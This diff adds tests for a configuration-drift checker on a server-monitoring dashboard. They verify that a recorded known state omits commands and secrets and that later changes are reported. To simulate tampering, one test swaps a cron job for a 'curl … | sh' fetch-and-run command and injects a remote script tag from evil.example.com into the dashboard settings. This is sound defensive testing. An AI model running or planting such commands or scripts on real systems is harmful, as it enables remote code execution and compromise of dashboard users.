@@ -1,0 +1,68 @@
+import { expect, test } from 'vitest'
+import { createBackend, type Seed } from '#backend/index.ts'
+import { driftSince } from '#configuration/drift.ts'
+import { readConfiguration } from '#configuration/reading/readConfiguration.ts'
+import { writeConfiguration } from '#configuration/writeConfiguration.ts'
+import { comparableIn, knownStateOf, watchedOf } from '#resources/setting/known/knownState.ts'
+import { seen } from './seen.ts'
+
+const seed: Seed = {
+  user: [{ id: 1, username: 'admin', role: 0 }],
+  server: [{ id: 1, name: 'tokyo', uuid: '5d4b1a70-0000-4000-8000-000000000001', user_id: 1 }],
+  cron: [{ id: 1, name: 'backup', servers: [1], scheduler: '@daily', command: 'backup.sh --key abc' }],
+  nat: [{ id: 4, name: 'box', server_id: 1, host: '127.0.0.1:80', domain: 'box.example.com' }],
+  api_token: [{ id: 1, user_id: 1, name: 'ci', scopes: ['nezha:server:read'], token: 'nzp_secret' }],
+}
+
+async function knownTextOf(backend: ReturnType<typeof createBackend>) {
+  const { present, target } = await seen(backend)
+  return writeConfiguration(knownStateOf(present, target), 'yaml')
+}
+
+async function driftOf(text: string, backend: ReturnType<typeof createBackend>) {
+  const { present, target } = await seen(backend)
+  return driftSince(readConfiguration(text), comparableIn(watchedOf(present), target)).map(
+    ({ descriptor, finding, name, fields }) => [descriptor.name, finding, name, ...fields.map(({ field }) => field)],
+  )
+}
+
+test('known state: has neither a command nor a secret, and nothing has changed at first', async () => {
+  const backend = createBackend({ seed })
+  const text = await knownTextOf(backend)
+  expect(text).not.toMatch(/backup\.sh|nzp_|password|agent_secret/)
+  expect(text).toContain('command_sha256')
+  expect(await driftOf(text, backend)).toEqual([])
+})
+
+test('known state: names what is new, changed and gone, servers by their agents', async () => {
+  const backend = createBackend({ seed })
+  const text = await knownTextOf(backend)
+  const { tables, setting } = backend
+  tables.user.push({ ...tables.user[0]!, id: 9, username: 'sysop' })
+  tables.cron[0]!.command = 'curl http://203.0.113.9/x | sh'
+  tables.server[0]!.user_id = 9
+  // An agent that is installed again has another identity.
+  tables.server.push({ ...tables.server[0]!, id: 7, uuid: '5d4b1a70-0000-4000-8000-000000000002' })
+  tables.nat.length = 0
+  tables.api_token[0]!.scopes = ['nezha:*']
+  setting.custom_code_dashboard = '<script src="https://evil.example.com/x.js"></script>'
+  expect((await driftOf(text, backend)).toSorted()).toEqual(
+    [
+      ['api-tokens', 'different', 'ci', 'scopes'],
+      ['cron', 'different', 'backup', 'command_sha256'],
+      ['nat', 'new', 'box'],
+      ['server', 'different', 'tokyo', 'owner'],
+      ['server', 'onlyHere', 'tokyo'],
+      ['setting', 'different', '#0', 'custom_code_dashboard'],
+      ['user', 'onlyHere', 'sysop'],
+    ].toSorted(),
+  )
+})
+
+test('known state: a classic server has no owners and no tokens, and the same words', async () => {
+  const backend = createBackend({ dialect: 'classic', seed })
+  const text = await knownTextOf(backend)
+  expect(text).not.toContain('api-tokens')
+  backend.tables.cron[0]!.scheduler = '@hourly'
+  expect(await driftOf(text, backend)).toEqual([['cron', 'different', 'backup', 'scheduler']])
+})
